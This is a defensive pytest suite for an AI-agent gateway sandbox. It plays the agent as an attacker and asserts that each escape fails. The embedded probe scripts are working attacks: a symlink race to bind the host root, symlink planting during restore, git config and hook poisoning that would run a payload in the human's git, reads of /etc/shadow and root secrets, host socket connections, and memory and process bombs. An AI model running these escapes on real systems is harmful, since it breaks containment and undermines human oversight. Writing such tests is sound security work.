"""Sandbox escapes, played through the real interface: a standing suite.

The attacker is the agent under the shipped policy (`policies/default.yaml`). It writes files
into its workspace (as the files tool would) and calls `make <target>` through `run`, `process`
or `session`: the policy allows `make`, and a recipe then runs anything inside the sandbox. So
every probe below is real code in the real sandbox, and every test asserts on the host that the
attack failed: no marker written outside, no secret read, no connection accepted, no limit
exceeded.

Where the probes look: pytest's tmp_path lies under /tmp, which every sandbox replaces with a
private tmpfs, so a probe of tmp_path proves nothing unless the sandbox escaped to the host root
(test 1 uses it for exactly that). The other "outside" places (secrets, markers, the gateway's
audit and state directories) live under a fresh directory in /var/tmp, which the host really has.

Each attack has a positive control (the recipe printed that it ran), so a sandbox that runs
nothing cannot pass by accident.
"""

from __future__ import annotations

import contextlib
import json
import os
import re
import secrets
import shutil
import signal
import socket
import stat
import subprocess
import textwrap
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from gateway.audit import AuditLog, records
from gateway.calls import ProcessCall, RunCall, SessionCall
from gateway.pipeline import Gateway
from gateway.policy.selftest import load_checked
from tests.conftest import eventually

try:
    from gateway.sandbox.identity import hand_over
except ImportError:  # before the sandbox rewrite: commands ran as the gateway's own user
    hand_over = None

pytestmark = pytest.mark.skipif(
    os.geteuid() != 0, reason="plants root-owned secrets, host sockets and files in /root, /home and /etc: run as root"
)

POLICY = Path(__file__).resolve().parents[2] / "policies" / "default.yaml"
HOST_GIT_ENV = {
    "PATH": "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
    "GIT_CONFIG_NOSYSTEM": "1",
    "GIT_AUTHOR_NAME": "Human",
    "GIT_AUTHOR_EMAIL": "human@example.com",
    "GIT_COMMITTER_NAME": "Human",
    "GIT_COMMITTER_EMAIL": "human@example.com",
    "LANG": "C.UTF-8",
}
AGENT_IDENTITY = {  # the shipped policy's git-write rule lets a call set these
    "GIT_AUTHOR_NAME": "agent",
    "GIT_AUTHOR_EMAIL": "agent@example.com",
    "GIT_COMMITTER_NAME": "agent",
    "GIT_COMMITTER_EMAIL": "agent@example.com",
}
MiB = 1 << 20


# --- the lab: a gateway, its workspace, the host around it ----------------------------------------


class Lab:
    """A gateway on the shipped policy, its workspace (handed to the sandbox's account), and
    places on the host outside every root."""

    def __init__(self, tmp_path: Path, host: Path, git: bool) -> None:
        self.tmp_path = tmp_path
        self.host = host
        """A directory of the test outside every root and outside /tmp."""
        self.ws = tmp_path / "ws"
        self.ws.mkdir()
        self.outside = host / "outside"
        self.outside.mkdir()
        self.tmp_outside = tmp_path / "outside"
        self.tmp_outside.mkdir()
        self.human_home = tmp_path / "human-home"
        self.human_home.mkdir()
        self.tag = f"agw-lab-{secrets.token_hex(6)}"
        """On the command line of every attacker program: how leftovers are found."""
        self.audit_dir = host / "audit"
        self.state_dir = host / "state"
        (self.ws / "README.md").write_text("a project\n")
        if git:  # the human's repository, made on the host
            env = {**HOST_GIT_ENV, "HOME": str(self.human_home)}
            subprocess.run(["git", "init", "-q", str(self.ws)], check=True, env=env)
            (self.ws / ".git" / "hooks").mkdir(exist_ok=True)
        self.hand_over()
        self.policy = load_checked(POLICY, self.ws)
        self.gw = Gateway(self.policy, AuditLog(self.audit_dir), state_dir=self.state_dir)

    def hand_over(self) -> None:
        """Give the workspace to the sandbox's account, as the files tool owns what it writes."""
        if hand_over is not None:
            hand_over(self.ws)

    def put(self, name: str, text: str, mode: int = 0o644) -> Path:
        """Write an attacker file into the workspace, as the files tool would."""
        path = self.ws / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
        path.chmod(mode)
        self.hand_over()
        return path

    def script(self, name: str, source: str, **constants: Any) -> str:
        """An attacker's python script in .attack/, with `constants` (and TAG) defined at its
        top. Returns the command that runs it, tagged."""
        head = "".join(f"{k} = {v!r}\n" for k, v in {**constants, "TAG": self.tag}.items())
        self.put(f".attack/{name}", head + textwrap.dedent(source))
        return f"python3 .attack/{name} {self.tag}"

    def makefile(self, targets: dict[str, list[str]], variables: dict[str, str] | None = None) -> None:
        """The attacker's Makefile: its variables, each target's recipe lines."""
        parts = ["".join(f"{k} := {v}\n" for k, v in (variables or {}).items()) + ".PHONY: " + " ".join(targets) + "\n"]
        parts += [f"{target}:\n" + "".join(f"\t{line}\n" for line in lines) for target, lines in targets.items()]
        self.put("Makefile", "\n".join(parts))

    def secret(self, path: Path) -> str:
        """A 0600 root file holding a fresh token; the token."""
        token = f"AGW-SECRET-{secrets.token_hex(12)}"
        fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
        with os.fdopen(fd, "w") as f:
            f.write(token + "\n")
        os.chown(path, 0, 0)
        return token

    # the agent's calls, as an MCP client's arrive
    def run(self, command: str, **kw: Any) -> dict[str, Any]:
        return self.gw.handle(RunCall(principal="agent", command=command, **kw))

    def make(self, target: str, timeout_ms: int = 60_000) -> dict[str, Any]:
        return self.run(f"make {target}", timeout_ms=timeout_ms)

    def process(self, action: str, **kw: Any) -> dict[str, Any]:
        return self.gw.handle(ProcessCall(principal="agent", action=action, **kw))  # type: ignore[arg-type]

    def session(self, action: str, **kw: Any) -> dict[str, Any]:
        return self.gw.handle(SessionCall(principal="agent", action=action, **kw))  # type: ignore[arg-type]

    def host_git(self, *args: str, phase: str = "host") -> subprocess.CompletedProcess[str]:
        """The human's git on the host, in the workspace: HOME is an empty directory of the test,
        no system config. `safe.directory` (command line, so protected configuration) because
        the workspace belongs to the sandbox's account, as a human's tree belongs to them."""
        env = {**HOST_GIT_ENV, "HOME": str(self.human_home), "PHASE": phase}
        argv = ["git", "-c", "safe.directory=*", *args]
        return subprocess.run(argv, cwd=self.ws, env=env, capture_output=True, text=True, errors="replace", timeout=60)

    def leftovers(self) -> list[int]:
        """Host pids of this lab's processes: the tag on their command line, or their cwd in
        the workspace."""
        found = []
        for entry in os.listdir("/proc"):
            if entry.isdigit() and int(entry) != os.getpid():
                with contextlib.suppress(OSError):
                    cmdline = Path(f"/proc/{entry}/cmdline").read_bytes()
                    cwd = os.readlink(f"/proc/{entry}/cwd")
                    if self.tag.encode() in cmdline or cwd == str(self.ws) or cwd.startswith(f"{self.ws}/"):
                        found.append(int(entry))
        return found

    def wait_no_leftovers(self, seconds: float) -> list[int]:
        deadline = time.monotonic() + seconds
        while (left := self.leftovers()) and time.monotonic() < deadline:
            time.sleep(0.1)
        return left

    def close(self) -> None:
        with contextlib.suppress(Exception):
            self.process("stop_all")
        with contextlib.suppress(Exception):
            self.gw.close()
        for pid in self.wait_no_leftovers(5.0):  # only this lab's: its tag or its workspace
            with contextlib.suppress(OSError):
                os.kill(pid, signal.SIGKILL)


@pytest.fixture
def host_dir() -> Iterator[Path]:
    """A fresh directory in /var/tmp: on the host's own disk, not under the sandbox's private /tmp."""
    path = Path("/var/tmp") / f"agw-test-{secrets.token_hex(6)}"
    path.mkdir(mode=0o755)
    try:
        yield path
    finally:
        shutil.rmtree(path, ignore_errors=True)


@pytest.fixture
def lab(tmp_path: Path, host_dir: Path) -> Iterator[Lab]:
    """A workspace holding the human's repository (`git init` on the host)."""
    the_lab = Lab(tmp_path, host_dir, git=True)
    try:
        yield the_lab
    finally:
        the_lab.close()


@pytest.fixture
def fresh_lab(tmp_path: Path, host_dir: Path) -> Iterator[Lab]:
    """A workspace without .git, where the agent's own `git init` comes first."""
    the_lab = Lab(tmp_path, host_dir, git=False)
    try:
        yield the_lab
    finally:
        the_lab.close()


@pytest.fixture
def planted() -> Iterator[list[Path]]:
    """Paths a test plants in host directories (/root, /home, /etc): removed after."""
    paths: list[Path] = []
    try:
        yield paths
    finally:
        for p in paths:
            if p.is_dir() and not p.is_symlink():
                shutil.rmtree(p, ignore_errors=True)
            else:
                with contextlib.suppress(FileNotFoundError):
                    p.unlink()


def text_of(out: dict[str, Any]) -> str:
    """Everything a call showed the agent."""
    return "\n".join(str(out.get(k, "")) for k in ("stdout", "stderr", "output")) + str(out.get("error", ""))


def tree(root: Path) -> dict[str, tuple[str, bytes]]:
    """What lies under `root`, never following a link: kind and content (or link target)."""
    out: dict[str, tuple[str, bytes]] = {}
    for dirpath, dirnames, filenames in os.walk(root):
        for name in dirnames + filenames:
            p = os.path.join(dirpath, name)
            st = os.lstat(p)
            if stat.S_ISLNK(st.st_mode):
                out[p] = ("link", os.readlink(p).encode())
            elif stat.S_ISDIR(st.st_mode):
                out[p] = ("dir", b"")
            else:
                out[p] = ("file", Path(p).read_bytes())
    return out


# --- 1. the bind race to the host root ------------------------------------------------------------

FLIP = """
import ctypes, os, stat, subprocess, time
# flip ./.git between the real directory and a symlink to the host root, as fast as the kernel
# swaps them (renameat2 RENAME_EXCHANGE of .git and .git-aside)
libc = ctypes.CDLL(None, use_errno=True)
def kind(p):
    try:
        m = os.lstat(p).st_mode
    except FileNotFoundError:
        return None
    return "link" if stat.S_ISLNK(m) else "dir" if stat.S_ISDIR(m) else "file"
def settle(n):
    a, b = kind(".git"), kind(".git-aside")
    if {a, b} == {"dir", "link"}:
        return
    for p, k in ((".git", a), (".git-aside", b)):
        if k in ("link", "file"):
            os.unlink(p)
    if kind(".git") is None and kind(".git-aside") == "dir":
        os.rename(".git-aside", ".git")
    if kind(".git-aside") == "dir":
        os.rename(".git-aside", f".git-junk-{n}")
    if kind(".git") is None:
        os.makedirs(".git/hooks")
    os.symlink(ROOT, ".git-aside")
subprocess.run(["git", "init", "-q"])
print("flipper-started", flush=True)
n = 0
while True:
    n += 1
    if libc.renameat2(-100, b".git", -100, b".git-aside", 2) != 0:
        try:
            settle(n)
        except OSError:
            time.sleep(0.0005)
"""

PROBE = """
import os
# try the host paths by absolute name (the sandbox's root became the host's) and through .git
# (the host root bound at .git)
print("probe-ran", flush=True)
tag = f"{os.getpid()}-{os.urandom(4).hex()}"
for base in ("/", ".git/", ".git-aside/"):
    for d in MARKER_DIRS:
        p = os.path.join(base, d.lstrip("/"), f"escape-marker-{tag}")
        try:
            with open(p, "w") as f:
                f.write("escaped\\n")
            print("WROTE", p)
        except OSError:
            pass
    for s in SECRETS:
        p = os.path.join(base, s.lstrip("/"))
        try:
            with open(p) as f:
                print("READ", p, f.read().strip())
        except OSError:
            pass
"""

ROOT_NAMES = (Path("/hooks"), Path("/config"))
"""What the old restore() wrote at the host root when .git led there mid-restore."""


def test_bind_race_to_the_host_root(fresh_lab: Lab, planted: list[Path]) -> None:
    """The attacker's durable process flips ./.git between the real directory and a symlink to
    the host root (`../../..`, as deep as the workspace), while the attacker makes `run` calls of
    `make probe`. A sandbox that checks .git is a directory, then binds it by name, loses the race
    when the flip lands between the two: the host root is mounted read-write as the sandbox's
    root or at .git. The probe writes a marker into directories outside every root (the test's
    tmp_path/outside, a host directory, the audit directory) and reads 0600 root secrets (under
    tmp_path/outside and /root).

    Must hold: over up to 120 probes, no marker is ever written and no secret ever read; the
    gateway writes nothing at the host root either; and after stop_all nothing is left running.

    The workspace has no .git when the flipper starts: a sandbox started while .git exists pins
    it (a mount point cannot be renamed), so the attacker flips a .git it made itself, as any
    agent in a fresh workspace may (`git init` is allowed)."""
    lab = fresh_lab
    root = os.path.relpath("/", lab.ws)
    secret_paths = [lab.tmp_outside / "secret", Path("/root") / f"agw-secret-{secrets.token_hex(6)}"]
    planted.append(secret_paths[1])
    tokens = [lab.secret(p) for p in secret_paths]
    marker_dirs = [lab.tmp_outside, lab.outside, lab.audit_dir]
    at_root_before = {p: os.path.lexists(p) for p in ROOT_NAMES}
    flip = lab.script("flip.py", FLIP, ROOT=root)
    probe = lab.script(
        "probe.py", PROBE, MARKER_DIRS=[str(d) for d in marker_dirs], SECRETS=[str(p) for p in secret_paths]
    )
    lab.makefile({"flip": [f"@{flip}"], "probe": [f"@{probe}"]})

    started = lab.process("start", command="make flip")
    assert started["status"] == "ok", started
    flipper = started["process"]["id"]
    assert eventually(lambda: "flipper-started" in lab.process("output", process_id=flipper)["output"])

    def markers() -> list[Path]:
        return [p for d in marker_dirs for p in d.glob("escape-marker-*")]

    ran, leaks, attempts = 0, [], 0
    while attempts < 120:
        attempts += 1
        out = lab.make("probe", timeout_ms=20_000)
        shown = text_of(out)
        ran += "probe-ran" in shown
        leaks += [t for t in tokens if t in shown]
        if leaks or markers():
            break
    log = lab.process("output", process_id=started["process"]["id"]).get("output", "")
    stopped = lab.process("stop_all")
    written_at_root = [p for p in ROOT_NAMES if os.path.lexists(p) and not at_root_before[p]]
    for p in written_at_root:  # the old restore() wrote there: take it away again
        shutil.rmtree(p) if p.is_dir() and not p.is_symlink() else p.unlink()
    left = lab.wait_no_leftovers(10.0)

    assert not markers(), f"escaped after {attempts} probes: wrote {markers()}"
    assert not leaks, f"escaped after {attempts} probes: read {leaks}"
    assert not written_at_root, f"the gateway wrote {written_at_root} at the host root (after {attempts} probes)"
    assert ran >= 10, f"only {ran} of {attempts} probes ran: the race was not exercised ({log[-500:]})"
    assert stopped["status"] == "ok", stopped
    assert not left, f"still running after stop_all: pids {left}"


# --- 2. restore-time symlink planting ---------------------------------------------------------------

PLANT = """
import os, time
# keep a symlink to the victim at the name the gateway's restore() writes last: the moment
# .git/hooks is a new directory (restore removed and re-made it), put the link back
try:
    os.makedirs(".git/hooks", exist_ok=True)
except OSError as exc:  # the protected tree cannot even be created: nothing to plant in
    print(f"planter-blocked: {exc}", flush=True)
    raise SystemExit(0)
for i in range(12):
    with open(f".git/hooks/h{i:02d}.sample", "w") as f:
        f.write("#!/bin/sh\\n" + "# sample hook\\n" * 40)
with open(".git/config", "w") as f:
    f.write("[core]\\n")
link = ".git/hooks/" + "z" * 60
def plant():
    try:
        os.symlink(VICTIM, link)
    except OSError:
        pass
plant()
print("planter-started", flush=True)
last, n, changed = None, 0, time.monotonic()
while True:
    n += 1
    try:
        ino = os.stat(".git/hooks").st_ino
    except OSError:
        continue
    if ino != last:
        plant()
        last = ino
    if time.monotonic() - changed > 0.02:  # a change for restore() to notice
        changed = time.monotonic()
        try:
            with open(".git/hooks/counter", "w") as f:
                f.write(str(n))
        except OSError:
            pass
"""

RESTORE_ATTACKS = [
    # a workspace with the human's repository?, the attacker's recipe, a concurrent planter?
    pytest.param(True, ["-@ln -s $(VICTIM) .git/config"], False, id="config-where-none-was"),
    pytest.param(False, ["-@ln -s $(D) .git"], False, id="git-symlinked-outside"),
    pytest.param(False, [], True, id="symlink-planted-in-the-protected-tree"),
]


@pytest.mark.parametrize(("git", "recipe", "planter"), RESTORE_ATTACKS)
def test_restoring_protected_paths_never_writes_outside(
    tmp_path: Path, host_dir: Path, git: bool, recipe: list[str], planter: bool
) -> None:
    """The attacker changes a protected path so that the gateway's clean-up (deleting and
    rewriting protected paths by name after a call) follows a symlink out of the workspace:
    a .git/config created where none was (a link to an outside file), .git replaced by a link
    to an outside directory holding `hooks/` and `config`, or, from a durable process, a symlink
    to an outside file put back in .git/hooks the moment the gateway re-creates that directory
    (the name sorts last, so the gateway writes it after re-creating the rest).

    Must hold: the outside directory (its files, links and contents) is exactly as before, over
    every call; the calls themselves ran."""
    lab = Lab(tmp_path, host_dir, git=git)
    try:
        outside = lab.outside / "D"
        (outside / "hooks").mkdir(parents=True)
        (outside / "hooks" / "keep").write_text("outside hook\n")
        (outside / "config").write_text("[outside]\n")
        victim = outside / "victim"
        victim.write_text("victim file\n")
        before = tree(lab.outside)
        if git:  # "where none was": the human's repository without a config
            (lab.ws / ".git" / "config").unlink()
        plant = lab.script("plant.py", PLANT, VICTIM=str(victim))
        targets = {"attack": ["@echo attack-ran", *recipe], "noop": ["@echo noop-ran"], "plant": [f"@{plant}"]}
        lab.makefile(targets, {"VICTIM": str(victim), "D": str(outside)})
        outs = [lab.make("attack")]
        if planter:
            started = lab.process("start", command="make plant")
            assert started["status"] == "ok", started
            pid = started["process"]["id"]

            def said() -> str:
                return str(lab.process("output", process_id=pid).get("output", ""))

            # the planter either runs, or is refused the protected tree itself (a read-only
            # placeholder where .git/hooks is missing): then the attack cannot start, and the tree
            # must indeed be absent; the calls below still may not change anything outside
            assert eventually(lambda: "planter-started" in said() or "planter-blocked" in said()), said()
            if "planter-blocked" in said():
                assert not (lab.ws / ".git" / "hooks").exists()
            for _ in range(40):
                outs.append(lab.make("noop", timeout_ms=20_000))
                if tree(lab.outside) != before:
                    break
            lab.process("stop_all")
        after = tree(lab.outside)
        changed = sorted(k for k in before.keys() | after.keys() if before.get(k) != after.get(k))
        assert not changed, f"the gateway changed outside paths after {len(outs)} calls: {changed}"
        assert any("-ran" in text_of(o) for o in outs), outs[:2]
    finally:
        lab.close()


# --- 3. git turned against the human -----------------------------------------------------------------

PAYLOAD = """#!/bin/sh
# the attacker's program: proves it ran, and where
echo "ran phase=${PHASE:-sandbox} argv=$0 $*" >> @WS@/.evidence
echo pwned > @OUTSIDE@/git-marker-$$ 2>/dev/null
if [ "$1" = filter ]; then exec cat; fi
exit 0
"""

EVIL_GIT = """
import os, shutil
print("evil-ran", flush=True)
def attempt(what, fn):
    try:
        fn()
        print("did", what)
    except OSError as e:
        print("failed", what, e)
def write(path, text, mode=0o644):
    os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
    with open(path, "w") as f:
        f.write(text)
    os.chmod(path, mode)
HOOKS = ["pre-commit", "prepare-commit-msg", "commit-msg", "post-commit", "post-checkout",
         "post-index-change", "reference-transaction", "pre-auto-gc", "fsmonitor-watchman"]
config = (
    "[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n"
    f"\\tfsmonitor = {PAYLOAD}\\n\\thooksPath = {WS}/.evil-hooks\\n"
    f'[filter "evil"]\\n\\tclean = {PAYLOAD} filter\\n\\tsmudge = {PAYLOAD} filter\\n\\trequired = true\\n'
    f'[diff "evil"]\\n\\ttextconv = {PAYLOAD}\\n'
)
attributes = "* filter=evil diff=evil\\n"
def hooks_dir(d):
    for h in HOOKS:
        write(f"{d}/{h}", f"#!/bin/sh\\nexec {PAYLOAD} hook-{h} \\"$@\\"\\n", 0o755)
hooks_dir(f"{WS}/.evil-hooks")
def common():  # (a) a common directory with the attacker's config, objects and refs copied
    shutil.copytree(".git/objects", ".evil/objects", dirs_exist_ok=True)
    shutil.copytree(".git/refs", ".evil/refs", dirs_exist_ok=True)
    write(".evil/config", config)
    write(".evil/info/attributes", attributes)
    hooks_dir(".evil/hooks")
    write(".git/commondir", "../.evil\\n")
attempt("commondir", common)
attempt("info/attributes", lambda: write(".git/info/attributes", attributes))  # (b)
attempt(".gitattributes", lambda: write(".gitattributes", attributes))
attempt("config.worktree", lambda: write(".git/config.worktree", config))
attempt("config", lambda: write(".git/config", config))
attempt("hooks", lambda: hooks_dir(".git/hooks"))
attempt("HOME/.gitconfig", lambda: write(".gitconfig", config))  # (c) HOME may be the workspace
"""


def vectors(evidence: str, phase: str) -> list[str]:
    """Which of the attacker's ways in ran (fsmonitor, filter, hook-NAME), from its evidence."""
    found = set()
    for line in evidence.splitlines():
        if f"phase={phase} " in line:
            args = line.split(".payload.sh", 1)[-1].split()
            found.add("fsmonitor" if not args or args[0].isdigit() else args[0])
    return sorted(found)


def test_git_is_not_turned_against_the_human(lab: Lab) -> None:
    """After the human's first commit, the attacker's recipe (a) writes .git/commondir pointing
    git at a common directory whose config sets core.fsmonitor, core.hooksPath and a filter to
    the attacker's program, (b) writes .git/info/attributes (and .gitattributes) naming that
    filter, plus every config and hook it can (config, config.worktree, hooks/), and (c) writes
    a .gitconfig with core.hooksPath into the workspace (the sandbox's HOME may be it).

    Must hold: an allowed `git add -A && git commit -m x` through `run` runs none of it, and the
    human's real git on the host (`git status`, then `git add -A && git commit`, HOME an empty
    directory, no system config) runs none of it: no evidence line, no marker outside."""
    evidence = lab.ws / ".evidence"
    assert lab.host_git("add", "-A").returncode == 0
    first = lab.host_git("commit", "-q", "-m", "the human's first commit")
    assert first.returncode == 0, first.stderr
    lab.hand_over()
    payload = lab.put(".payload.sh", PAYLOAD.replace("@WS@", str(lab.ws)).replace("@OUTSIDE@", str(lab.outside)), 0o755)
    evil = lab.script("evil_git.py", EVIL_GIT, WS=str(lab.ws), PAYLOAD=str(payload))
    lab.makefile({"evil": [f"@{evil}"]})

    out = lab.make("evil")
    assert "evil-ran" in text_of(out), out
    commit = lab.run("git add -A && git commit -q -m x", env=AGENT_IDENTITY)
    in_sandbox = evidence.read_text() if evidence.exists() else ""
    sandbox_ran = vectors(in_sandbox, "sandbox")

    status = lab.host_git("status")
    add = lab.host_git("add", "-A")
    human = lab.host_git("commit", "-q", "-m", "the human's next commit")
    on_host = evidence.read_text() if evidence.exists() else ""
    host_ran = vectors(on_host, "host")
    markers = sorted(p.name for p in lab.outside.glob("git-marker-*"))
    assert not sandbox_ran and not host_ran and not markers, (
        f"git through run ran the attacker's program: {sandbox_ran} ({commit.get('status')})\n"
        f"the human's git on the host ran it: {host_ran}, markers outside: {len(markers)}\n"
        f"status: {status.stderr[-300:]}\nadd: {add.stderr[-300:]}\ncommit: {human.stderr[-300:]}"
    )
    # and both really ran: the honest commit works, the human's git reads the repository
    assert commit["status"] == "ok" and commit.get("exit_code") == 0, commit
    assert status.returncode == 0, status.stderr


HONEST_GIT = [
    ("git init", {}),
    ("git add -A", {}),
    ("git commit -q -m x", AGENT_IDENTITY),
    ("git checkout -q -b topic", {}),
]


def test_honest_git_works_in_a_fresh_workspace(fresh_lab: Lab) -> None:
    """What an honest agent does first in a workspace without a repository: git init, add,
    commit, a branch, each through `run`. Must hold: every call is ok with exit 0, and the human
    sees the commit and the branch on the host (whatever identity the gateway gives git)."""
    lab = fresh_lab
    lab.put("src/app.py", "print('hello')\n")
    for command, env in HONEST_GIT:
        out = lab.run(command, env=env)
        assert out["status"] == "ok" and out.get("exit_code") == 0, f"{command}: {out}"
    log = lab.host_git("log", "--format=%s")
    assert log.returncode == 0 and log.stdout.strip() == "x", (log.stdout, log.stderr)
    branch = lab.host_git("branch", "--show-current")
    assert branch.stdout.strip() == "topic", (branch.stdout, branch.stderr)


# --- 4. reads outside the roots --------------------------------------------------------------------

READS = """
import os
print("reads-ran", flush=True)
for i, p in enumerate(["/etc/shadow", *SECRETS]):  # by number: the output must not name them
    try:
        with open(p) as f:
            print("READ", i, f.read())
    except OSError as e:
        print("refused", i, e.strerror)
for d in ["/home", "/root", "/run", "/var", "/var/tmp", *DIRS]:
    try:
        print("LIST", d, sorted(os.listdir(d)))
    except OSError as e:
        print("refused", d, e.strerror)
"""


def test_reads_outside_the_roots(lab: Lab, planted: list[Path]) -> None:
    """A recipe reads /etc/shadow and 0600 root secrets the test made outside the workspace
    (under tmp_path, a host directory in /var/tmp, /root and /home), and lists /home, /root,
    /run and /var. Must hold: no secret's content and no line of /etc/shadow in the output, and
    the names planted in /root and /home do not show."""
    home_dir = Path("/home") / f"agw-test-{secrets.token_hex(6)}"
    home_dir.mkdir(mode=0o755)
    in_root = Path("/root") / f"agw-secret-{secrets.token_hex(6)}"
    planted += [home_dir, in_root]
    places = {
        "tmp_path": lab.tmp_outside / "secret",
        "/var/tmp": lab.outside / "secret",
        "/root": in_root,
        "/home": home_dir / "secret",
    }
    tokens = {where: lab.secret(p) for where, p in places.items()}
    reads = lab.script("reads.py", READS, SECRETS=[str(p) for p in places.values()], DIRS=[str(lab.outside)])
    lab.makefile({"reads": [f"@{reads}"]})

    shown = text_of(lab.make("reads"))
    assert "reads-ran" in shown, shown
    shadow = [line for line in Path("/etc/shadow").read_text().splitlines() if line.strip()]
    leaked = [where for where, token in tokens.items() if token in shown]
    leaked += ["/etc/shadow"] if any(line in shown for line in shadow) else []
    leaked += [f"the name {p.name}" for p in (home_dir, in_root) if p.name in shown]
    assert not leaked, f"read outside the roots: {leaked}"


# --- 5. host Unix sockets ----------------------------------------------------------------------------

CONNECT = """
import socket
print("connect-ran", flush=True)
for name, address in TARGETS:
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(2)
    try:
        s.connect(address.encode("latin-1"))
        s.sendall(b"x")
        print("CONNECTED", name)
    except OSError as e:
        print("refused", name, e)
    finally:
        s.close()
"""


def test_host_unix_sockets_are_unreachable(lab: Lab) -> None:
    """The test listens on a Unix socket in /var/tmp (mode 0777, so only the sandbox stands in
    the way) and on an abstract-namespace socket; a recipe connects to both and sends a byte.
    Must hold: neither listener ever accepts a connection."""
    path = f"/var/tmp/agw-test-{secrets.token_hex(6)}.sock"
    abstract = f"\0agw-test-{secrets.token_hex(6)}"
    listeners = {}
    try:
        for name, address in (("path", path), ("abstract", abstract)):
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            s.bind(address)
            s.listen(8)
            s.setblocking(False)
            listeners[name] = s
        os.chmod(path, 0o777)
        connect = lab.script("connect.py", CONNECT, TARGETS=[("path", path), ("abstract", abstract)])
        lab.makefile({"connect": [f"@{connect}"]})
        shown = text_of(lab.make("connect"))
        assert "connect-ran" in shown, shown
        accepted = []
        for name, s in listeners.items():
            with contextlib.suppress(BlockingIOError):
                conn, _ = s.accept()
                conn.close()
                accepted.append(name)
        assert not accepted, f"host sockets reached from the sandbox: {accepted}\n{shown}"
    finally:
        for s in listeners.values():
            s.close()
        with contextlib.suppress(FileNotFoundError):
            os.unlink(path)


# --- 6. writes outside the write roots ----------------------------------------------------------------

WRITES = """
import os
print("writes-ran", flush=True)
for d in TARGETS:
    p = os.path.join(d, "agw-write-marker")
    try:
        os.makedirs(d, exist_ok=True)
        with open(p, "w") as f:
            f.write("escaped\\n")
        print("WROTE", p)
    except OSError as e:
        print("refused", p, e.strerror)
"""


def test_writes_outside_the_write_roots(lab: Lab, planted: list[Path]) -> None:
    """A recipe writes a marker into tmp_path/outside, a host directory in /var/tmp, the audit
    directory, the state directory (of the processes the agent started), /etc, and a host
    directory that appeared after a long-lived sandbox (a session) started. Must hold: no marker
    exists on the host afterwards."""
    etc = Path("/etc") / f"agw-test-{secrets.token_hex(6)}"
    planted.append(etc)
    lab.process("list")  # the state directory exists, as it does once the agent used the process tool
    late = lab.host / "late"
    started = lab.session("start")
    assert started["status"] == "ok", started
    late.mkdir()  # appeared after the session started
    targets = [lab.tmp_outside, lab.outside, lab.audit_dir, lab.state_dir, etc, late]
    writes = lab.script("writes.py", WRITES, TARGETS=[str(t) for t in targets])
    lab.makefile({"writes": [f"@{writes}"]})
    shown = text_of(lab.make("writes"))
    shown += text_of(lab.session("exec", session_id=started["session_id"], command="make writes", timeout_ms=30_000))
    assert shown.count("writes-ran") == 2, shown
    written = [str(t) for t in targets if (t / "agw-write-marker").exists()]
    assert not written, f"wrote outside the write roots: {written}"


# --- 7. uid mapping -----------------------------------------------------------------------------------

WHOAMI = """
print("whoami-ran", flush=True)
open("made-in-sandbox", "w").write("x\\n")
for line in open("/proc/self/status"):
    if line.startswith(("Uid:", "Gid:")):
        print(line.strip())
print("UID_MAP", open("/proc/self/uid_map").read().split())
"""


def test_sandboxed_code_is_not_host_root(lab: Lab) -> None:
    """A recipe creates a file in the workspace and reports its Uid and uid map. Must hold: the
    sandbox's uid does not map to host root: on the host, the file it made is not owned by 0."""
    whoami = lab.script("whoami.py", WHOAMI)
    lab.makefile({"whoami": [f"@{whoami}"]})
    shown = text_of(lab.make("whoami"))
    assert "whoami-ran" in shown, shown
    owner = (lab.ws / "made-in-sandbox").stat().st_uid
    # the file's owner is the kernel's answer; the uid map inside is reported (it may be nested)
    assert owner != 0, f"a file the sandbox made is owned by host root\n{shown}"


# --- 8-10. resource bombs --------------------------------------------------------------------------------

MEMORY = """
print("memory-ran", flush=True)
size = 4 << 30
b = bytearray(size)
b[::4096] = b"\\x01" * len(range(0, size, 4096))  # touch every page
print("ALLOCATED 4 GiB", flush=True)
"""

PROCESSES = """
import os, subprocess
print("processes-ran", flush=True)
started = 0
for _ in range(2000):
    try:  # argv[0] is the lab's tag: leftovers are found by it
        null = subprocess.DEVNULL
        subprocess.Popen([TAG, "29.5"], executable="/usr/bin/sleep", stdout=null, stderr=null, start_new_session=True)
        started += 1
    except OSError as e:
        print("refused after", started, e)
        break
alive = sum(1 for d in os.listdir("/proc") if d.isdigit())
print(f"STARTED={started} ALIVE={alive}", flush=True)
"""


def test_memory_bomb_is_killed(lab: Lab) -> None:
    """A recipe allocates 4 GiB and touches every page. Must hold: it fails (killed or refused:
    no "ALLOCATED" line, a non-zero exit). The shipped policy caps a sandbox at 2 GiB."""
    memory = lab.script("memory.py", MEMORY)
    lab.makefile({"memory": [f"@{memory}"]})
    out = lab.make("memory", timeout_ms=90_000)
    shown = text_of(out)
    assert "memory-ran" in shown, shown
    assert "ALLOCATED" not in shown, f"4 GiB allocated and touched in the sandbox: {out}"
    assert out["status"] != "ok" or out.get("exit_code") != 0, out


def test_process_bomb_is_capped(lab: Lab) -> None:
    """A recipe starts 2,000 `sleep` processes, then counts the live ones in its /proc. Must
    hold: it is capped well below 2,000 (the shipped policy: 512 per sandbox), and nothing is
    left on the host when the call returns."""
    processes = lab.script("processes.py", PROCESSES)
    lab.makefile({"processes": [f"@{processes}"]})
    try:
        out = lab.make("processes", timeout_ms=30_000)  # the PID namespace dies with the call
        shown = text_of(out)
        assert "processes-ran" in shown, shown
        found = re.search(r"STARTED=(\d+) ALIVE=(\d+)", shown)
        assert found, shown
        alive = int(found.group(2))
        assert alive < 1000, f"{alive} processes alive at once in one sandbox (started {found.group(1)})"
    finally:
        left = lab.wait_no_leftovers(10.0)
    assert not left, f"{len(left)} processes outlived the call"


TMPFS = """
set -u
echo tmpfs-ran
for d in /tmp /dev/shm; do
  for i in 1 2 3; do dd if=/dev/zero of=$d/agw-bomb-$i bs=1M count=300 2>&1 | grep -v records; done
  total=0
  for i in 1 2 3; do s=$(stat -c %s $d/agw-bomb-$i 2>/dev/null || echo 0); total=$((total + s)); done
  echo "WROTE $d $total"
  rm -f $d/agw-bomb-*
done
"""


